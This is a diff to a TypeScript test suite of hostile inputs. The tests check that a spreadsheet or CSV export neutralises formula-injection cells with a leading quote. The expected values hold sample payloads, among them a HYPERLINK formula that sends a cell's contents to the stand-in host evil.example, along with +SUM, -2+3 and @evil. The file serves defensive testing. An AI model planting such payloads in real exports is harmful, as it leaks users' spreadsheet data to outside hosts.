@@ -241,7 +241,9 @@ export const CASES: HostileCase[] = [
         if (cell === '' || Number.isFinite(Number(cell))) continue; // numbers, negative budgets included
         expect(cell, 'a spreadsheet would run this cell').not.toMatch(/^[=+\-@\t\r]/);
       }
-      expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
+      // the service cell holds a comma, so it lists two services (SPEC 1): its first is still a formula, escaped
+      expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1`);
+      expect(cells).toContain(`"click")`);
       expect(cells).toContain(`'+SUM(1+1)`);
       expect(cells).toContain(`'-2+3`);
       expect(cells).toContain(`'@evil`);
